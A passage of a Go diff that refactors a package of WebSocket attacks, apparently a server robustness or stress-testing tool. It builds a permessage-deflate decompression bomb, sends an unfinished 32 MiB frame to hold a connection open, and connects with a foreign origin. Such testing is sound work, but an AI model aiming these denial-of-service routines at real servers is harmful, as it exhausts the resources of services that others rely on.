@@ -1,4 +1,4 @@
-package main
+package attacks
 
 import (
 	"bufio"
@@ -7,7 +7,7 @@ import (
 	"encoding/binary"
 	"fmt"
 	"net"
-	"net/http"
+	"sync"
 )
 
 // upgrade makes a WebSocket of conn, and reports whether the server agreed.
@@ -17,8 +17,8 @@ func upgrade(conn net.Conn, origin string) bool {
 		"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: "+
 		"permessage-deflate\r\nSec-WebSocket-Key: "+
 		"dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", origin)
-	r, err := http.ReadResponse(bufio.NewReader(conn), nil)
-	return err == nil && r.StatusCode == 101
+	r, err := readResponse(bufio.NewReader(conn))
+	return err == nil && r.status == 101
 }
 
 // appendMessage appends a frame, masked with zeros, which change nothing.
@@ -78,11 +78,14 @@ func half(conn net.Conn, t *tally) {
 	p := appendMessage(nil, binaryFrame, make([]byte, 32<<20))
 	conn.Write(p[:len(p)-1])
 	t.done.Add(1)
-	ended(conn, *during)
+	ended(conn, t.o.For)
 }
 
-// deflated sends a kilobyte that stands for a hundred megabytes.
-func deflated() func(net.Conn, *tally) {
+// deflated sends a hundred kilobytes that stand for a hundred megabytes.
+func deflated(conn net.Conn, t *tally) { flooding(nil, deflatedBomb())(conn, t) }
+
+// deflatedBomb takes a moment to make, so it is made only where it is needed.
+var deflatedBomb = sync.OnceValue(func() []byte {
 	var b bytes.Buffer
 	z, err := flate.NewWriter(&b, flate.BestCompression)
 	if err != nil {
@@ -94,8 +97,8 @@ func deflated() func(net.Conn, *tally) {
 	}
 	z.Flush()
 	p := bytes.TrimSuffix(b.Bytes(), []byte{0, 0, 0xff, 0xff})
-	return flooding(nil, appendMessage(nil, deflatedFrame, p))
-}
+	return appendMessage(nil, deflatedFrame, p)
+})
 
 // foreign connects as a page of another site would.
 func foreign(conn net.Conn, t *tally) {
